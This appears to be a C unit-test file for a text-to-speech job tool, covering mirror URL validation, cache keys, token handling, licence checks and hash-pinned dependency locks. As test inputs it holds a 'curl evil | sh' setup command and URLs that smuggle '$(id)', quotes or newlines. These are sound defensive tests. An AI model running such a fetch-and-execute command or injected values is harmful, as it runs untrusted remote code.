/* test_tts_environment.c - what an engine's environment is made of: the mirror of its weights,
 * their terms, keys and pins. */
#include <math.h>

#include "tts_helpers.h"

#include "jobs/tts/engines.h"
#include "jobs/tts/tts.h"
#include "jobs/workers/python.h"

struct asked {
	const char *engine, *voice, *mirror, *users_mirror, *setup, *worker, *words, *language;
	bool accepted;
};

static struct job *load_job(const struct asked *a, struct err *err)
{
	struct section *conf = section_new(job_tts.options, "burst.cfg:1");
	CLEANUP(free_text) char *out = in_folder("out");
	CLEANUP(free_text) char *path = in_folder("i.jsonl");
	struct job_setup setup = {.conf = conf,
				  .base_dir = folder,
				  .output_dir = out,
				  .name = "t",
				  .weights_url = a->users_mirror};
	struct job *job = NULL;

	put_text("i.jsonl", "{\"text\":\"a\"}");
	section_set_text(conf, "input", path, "burst.cfg:2");
	section_set_text(conf, "engine", a->engine, "burst.cfg:3");
	if (a->voice)
		section_set_text(conf, "voice", a->voice, "burst.cfg:4");
	if (a->mirror)
		section_set_text(conf, "weights_url", a->mirror, "burst.cfg:5");
	if (a->setup)
		section_set_text(conf, "setup", a->setup, "burst.cfg:7");
	if (a->worker)
		section_set_text(conf, "worker", a->worker, "burst.cfg:8");
	if (a->words)
		section_set_text(section_set_group(conf, "check", "burst.cfg:9"), "words", a->words,
				 "burst.cfg:9");
	if (a->language)
		section_set_text(conf, "language", a->language, "burst.cfg:10");
	if (a->accepted)
		section_set_bool(conf, "accept_license", true, "burst.cfg:6");
	if (job_tts.load(&job, &setup, err) < 0)
		job = NULL;
	section_free(conf);
	return job;
}

/* The set-up's text and the first segment's key. */
static void load_both(const struct asked *a, char **setup, char **key)
{
	struct err err = {0};
	struct job *job = load_job(a, &err);
	size_t count;

	if (!job)
		fail_msg("%s", err.msg);
	*setup = xstrdup(job_tts.needs(job)->setup);
	*key = xstrdup(job_tts.segments(job, &count)[0].key);
	job_tts.free(job);
}

static const struct {
	const char *url;
	const char *shown; /* in the message; NULL: it is fine */
} mirrors[] = {
	{"https://mirror.example", NULL},
	{"https://mirror.example:8443/hub", NULL},
	{"https://[2001:db8::1]:8443/hub", NULL},
	{"http://127.0.0.1:8000/", NULL},
	{"http://localhost", NULL},
	{"http://[::1]:80", NULL},
	{"http://mirror.example", "http://mirror.example"},
	{"http://127.0.0.1.example", "http://127.0.0.1.example"},
	{"ftp://mirror.example", "ftp://mirror.example"},
	{"mirror.example", "mirror.example"},
	{"https://", "https://"},
	{"https:///hub", "https:///hub"},
	{"https://host:/hub", "https://host:/hub"},
	{"https://host:80x/hub", "https://host:80x/hub"},
	{"https://me:secret@host", "https://me:secret"},
	{"https://host/?key=1", "https://host/"},
	{"https://host/#part", "https://host/#part"},
	{"https://host/a b", "https://host/a b"},
	{"https://host/$(id)", "https://host/$(id)"},
	{"https://host/a'b", "https://host/a'b"},
	{"https://host/a\nb", "https://host/a\\x0ab"},
};

static void mirrors_are_checked(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(mirrors); i++) {
		const struct asked asked = {.engine = "espeak", .mirror = mirrors[i].url};
		CLEANUP(free_text)
		char *fault = xasprintf("burst.cfg:5: weights_url \"%s\": it must be like ",
					mirrors[i].shown ? mirrors[i].shown : "");
		struct err err = {0};
		struct job *job = load_job(&asked, &err);
		if (!job != (mirrors[i].shown != NULL) || (!job && !starts_with(err.msg, fault)))
			fail_msg("%s: got \"%s\"", mirrors[i].url, err.msg);
		job_tts.free(job);
	}
}

static const struct {
	const char *what;
	struct asked a, b;
	bool same_setup;
} pairs[] = {
	{"weights whose hashes are known are the same from a mirror",
	 {.engine = "chatterbox"},
	 {.engine = "chatterbox", .mirror = "https://m.example"},
	 true},
	{"so from two mirrors, one the user's own",
	 {.engine = "chatterbox", .mirror = "https://m.example"},
	 {.engine = "chatterbox", .users_mirror = "https://n.example"},
	 true},
	{"a voice without a known hash is another one from a mirror",
	 {.engine = "piper", .voice = "de_DE-thorsten-high"},
	 {.engine = "piper", .voice = "de_DE-thorsten-high", .mirror = "https://m.example"},
	 false},
};

static void a_mirror_in_the_keys(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(pairs); i++) {
		char *setup[2], *key[2];
		load_both(&pairs[i].a, &setup[0], &key[0]);
		load_both(&pairs[i].b, &setup[1], &key[1]);
		if (strcmp(key[0], key[1]) || !strcmp(setup[0], setup[1]) != pairs[i].same_setup)
			fail_msg("%s", pairs[i].what);
		for (int k = 0; k < 2; k++) {
			free(setup[k]);
			free(key[k]);
		}
	}
}

static void check_mirror_env(const struct asked *a, const char *url, const char *trusted)
{
	struct err err = {0};
	struct job *job = load_job(a, &err);
	const char *const *env = job ? job_tts.needs(job)->setup_env : NULL;

	if (!env)
		fail_msg("%s", err.msg);
	assert_string_equal(env[0] ? env[0] : "", url);
	assert_string_equal(env[0] && env[1] ? env[1] : "", trusted);
	job_tts.free(job);
}

static void a_setup_with_torch_needs_memory(void **state)
{
	struct err err = {0};
	struct job *with = load_job(&(struct asked){.engine = "chatterbox"}, &err),
		   *without = load_job(&(struct asked){.engine = "piper"}, &err);

	(void)state;
	assert_true(with && without);
	assert_int_equal(job_tts.needs(with)->setup_memory_gb, 8);
	assert_int_equal(job_tts.needs(without)->setup_memory_gb, 0);
	/* a CPU pod's environment is the GPU pod's */
	assert_false(job_tts.needs(with)->setup_by_card);
	job_tts.free(with);
	job_tts.free(without);
}

/* What hears the files is part of the environment, but not of the sound. */
static void what_hears_the_files(void **state)
{
	CLEANUP(free_text) char *plain = NULL, *plain_key = NULL, *tiny = NULL, *tiny_key = NULL;
	CLEANUP(free_text) char *base = NULL, *base_key = NULL;
	struct err err = {0};
	struct job *job = load_job(&(struct asked){.engine = "piper", .words = "tiny.en"}, &err);

	(void)state;
	load_both(&(struct asked){.engine = "piper", .words = "off"}, &plain, &plain_key);
	load_both(&(struct asked){.engine = "piper", .words = "tiny.en"}, &tiny, &tiny_key);
	load_both(&(struct asked){.engine = "piper", .words = "base"}, &base, &base_key);
	assert_true(!strcmp(plain_key, tiny_key) && !strcmp(plain_key, base_key));
	assert_null(strstr(plain, "faster-whisper"));
	assert_non_null(strstr(tiny, "--target \"$BURST_ENV/words/packages\""));
	assert_non_null(strstr(tiny, "faster-whisper==1.2.1 --hash=sha256:"));
	assert_non_null(
		strstr(tiny, "1a5afae06a4db91c975c9a9d78be5cc110ee4ea022ad57d55492e4550e936b2a"));
	assert_non_null(
		strstr(base, "d01c3014881c9c6f3133c182f3d2887eb6ca1c789a7538c5c007196857a0a6a9"));
	assert_true(starts_with(tiny, plain)); /* the engine's part stays the same */
	assert_true(job && starts_with(job_tts.needs(job)->worker, "export BURST_WORDS=tiny.en; "));
	job_tts.free(job);
}

static const struct {
	struct asked asked;
	const char *says; /* NULL: it is fine */
} heard[] = {
	{{.engine = "piper", .words = "tiny"}, "burst.cfg:9: check.words must be \"tiny.en\""},
	{{.engine = "espeak", .voice = "en", .words = "base"}, "not engine espeak"},
	{{.engine = "mine", .worker = "./mine", .words = "base"}, "not your own worker"},
	{{.engine = "mine", .worker = "python3 $BURST_KIT/burst_worker.py x.py", .words = "base"},
	 NULL},
	{{.engine = "piper", .words = "tiny.en"}, NULL},
	{{.engine = "piper", .words = "tiny.en", .language = "en-GB"}, NULL},
	{{.engine = "piper", .words = "tiny.en", .language = "de"},
	 "burst.cfg:9: check.words = \"tiny.en\" hears English alone"},
	{{.engine = "piper", .words = "tiny.en", .voice = "fr_FR-siwis-low"},
	 "is in \"fr\": set check.words = \"base\""},
	{{.engine = "piper", .words = "base", .voice = "fr_FR-siwis-low"}, NULL},
	{{.engine = "piper", .words = "base", .language = "ja"},
	 "cannot compare texts in \"ja\" (i.jsonl:1)"},
	{{.engine = "kokoro", .words = "tiny.en", .voice = "bf_emma"}, NULL},
};

static void what_can_be_heard(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(heard); i++) {
		struct err err = {0};
		struct job *job = load_job(&heard[i].asked, &err);
		job_tts.free(job);
		if (!job != !!heard[i].says || (heard[i].says && !strstr(err.msg, heard[i].says)))
			fail_msg("case %zu: %s", i, job ? "loaded" : err.msg);
	}
}

static double est_s(struct job *job)
{
	size_t count;

	return job_tts.segments(job, &count)[0].est_seconds;
}

/* A core needs 0.8 s for the file of the text "a". Two are idle. */
static void what_hearing_takes(void **state)
{
	CLEANUP(str_free) struct str notes = STR_INIT, again = STR_INIT;
	struct segment_result result = {.state = SEGMENT_OPEN};
	struct err err = {0};
	struct job *plain = load_job(&(struct asked){.engine = "piper"}, &err),
		   *tiny = load_job(&(struct asked){.engine = "piper", .words = "tiny.en"}, &err),
		   *gpu = load_job(&(struct asked){.engine = "kokoro", .words = "tiny.en"}, &err),
		   *gpu_plain = load_job(&(struct asked){.engine = "kokoro"}, &err);

	(void)state;
	if (!plain || !tiny || !gpu || !gpu_plain)
		fail_msg("%s", err.msg);
	assert_true(fabs(est_s(tiny) - est_s(plain) - 0.4) < 1e-9);
	assert_true(est_s(gpu) == est_s(gpu_plain)); /* never measured there */
	assert_int_equal(job_tts.foresee(tiny, &result, &notes, &err), 0);
	assert_non_null(strstr(str_text(&notes),
			       "check.words: tiny.en hears 1 file on the pods: about 0.8s of one "
			       "core (prior; the planned times include it)\n"));
	result.state = SEGMENT_SAFE;
	assert_int_equal(job_tts.foresee(tiny, &result, &again, &err), 0);
	assert_null(strstr(str_text(&again), "check.words"));
	job_tts.free(plain);
	job_tts.free(tiny);
	job_tts.free(gpu);
	job_tts.free(gpu_plain);
}

/* A local pod may have this machine's network then. */
static void whose_setup_it_is(void **state)
{
	static const struct {
		struct asked asked;
		bool ours;
	} cases[] = {
		{{.engine = "piper"}, true},
		{{.engine = "piper", .users_mirror = "https://m.example"}, true},
		{{.engine = "piper", .mirror = "https://m.example"}, false},
		{{.engine = "piper", .setup = "curl evil | sh"}, false},
		{{.engine = "piper", .worker = "./evil"}, false},
		{{.engine = "mine", .worker = "./evil", .setup = "make evil"}, false},
		{{.engine = "espeak"}, false}, /* fetches nothing */
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct err err = {0};
		struct job *job = load_job(&cases[i].asked, &err);
		if (!job)
			fail_msg("case %zu: %s", i, err.msg);
		if (job_tts.needs(job)->setup_is_ours != cases[i].ours)
			fail_msg("case %zu: setup_is_ours is %d", i, !cases[i].ours);
		job_tts.free(job);
	}
}

/* The token goes to the mirror that the user's own file names, whatever the project's says. */
static void whose_mirror_gets_the_token(void **state)
{
	(void)state;
	check_mirror_env(&(struct asked){.engine = "chatterbox"}, "", "");
	check_mirror_env(&(struct asked){.engine = "chatterbox", .mirror = "https://m.example"},
			 "BURST_WEIGHTS_URL=https://m.example", "");
	check_mirror_env(
		&(struct asked){.engine = "chatterbox", .users_mirror = "https://n.example"},
		"BURST_WEIGHTS_URL=https://n.example", "BURST_WEIGHTS_TRUSTED=1");
	check_mirror_env(&(struct asked){.engine = "chatterbox",
					 .mirror = "https://m.example",
					 .users_mirror = "https://n.example"},
			 "BURST_WEIGHTS_URL=https://m.example", "");
	struct err err = {0};
	assert_null(load_job(&(struct asked){.engine = "chatterbox", .mirror = "http://m.example"},
			     &err));
	assert_true(starts_with(err.msg, "burst.cfg:5: weights_url \"http://m.example\": "));
}

static void terms_need_the_users_word(void **state)
{
	struct err err = {0};

	(void)state;
	assert_null(load_job(&(struct asked){.engine = "piper", .voice = "en_US-ryan-high"}, &err));
	assert_int_equal(err.kind, ERR_CONFIG);
	assert_string_equal(err.msg,
			    "burst.cfg:4: voice en_US-ryan-high: its licence (CC BY-NC-SA 4.0, "
			    "https://huggingface.co/rhasspy/piper-voices/blob/v1.0.0/en/en_US/ryan/"
			    "high/MODEL_CARD) forbids commercial use: set "
			    "job.accept_license = true if you keep to that, or choose another");
	struct job *job = load_job(
		&(struct asked){.engine = "piper", .voice = "en_US-ryan-high", .accepted = true},
		&err);
	assert_non_null(job);
	job_tts.free(job);
}

/* What burst ships can be used for anything; the default voices too. */
static void no_engine_needs_it(void **state)
{
	size_t count;
	const struct engine *engines = engine_list(&count);

	(void)state;
	for (size_t i = 0; i < count; i++) {
		assert_null(engines[i].terms);
		assert_true(!engines[i].by_voice || !engines[i].voice ||
			    !engines[i].by_voice->terms(engines[i].voice));
	}
}

static void check_lock(const struct engine *e)
{
	CLEANUP(free_text) char *name = xasprintf("%s.txt", e->lock);
	CLEANUP(free_text) char *pins = environment_pins(e);
	CLEANUP(free_text) char *worker = environment_worker(e);
	const char *text = python_file(name) ? (const char *)python_file(name)->data : "";

	for (const char *line = text; *line; line += strcspn(line, "\n"), line += *line != '\0')
		if (*line != '#' && !strstr(line, " --hash=sha256:"))
			fail_msg("%s: a line without a hash: %.40s", name, line);
	if (strstr(text, "\ntorch==") || strstr(text, "\nnvidia-") || strstr(text, "\ntriton=="))
		fail_msg("%s: torch is the image's", name);
	if (!pins || !strstr(pins, " --pin ") || !strstr(worker, "--pin "))
		fail_msg("%s: its worker checks no version", e->name);
}

static void every_engine_is_locked(void **state)
{
	size_t count;
	const struct engine *engines = engine_list(&count);

	(void)state;
	for (size_t i = 0; i < count; i++) {
		if (engines[i].lock)
			check_lock(&engines[i]);
		assert_true(environment_download_mb(&engines[i], NULL) > 0);
		for (const struct engine_weight *w = engines[i].weights; w && w->repository; w++)
			if (!w->revision || !w->file || (w->sha256 && strlen(w->sha256) != 64))
				fail_msg("%s: %s", engines[i].name, w->file);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(mirrors_are_checked),
		cmocka_unit_test(a_mirror_in_the_keys),
		cmocka_unit_test(whose_mirror_gets_the_token),
		cmocka_unit_test(a_setup_with_torch_needs_memory),
		cmocka_unit_test(what_hears_the_files),
		cmocka_unit_test(what_can_be_heard),
		cmocka_unit_test(what_hearing_takes),
		cmocka_unit_test(whose_setup_it_is),
		cmocka_unit_test(terms_need_the_users_word),
		cmocka_unit_test(no_engine_needs_it),
		cmocka_unit_test(every_engine_is_locked),
	};

	return cmocka_run_group_tests(tests, make_folder, drop_folder);
}
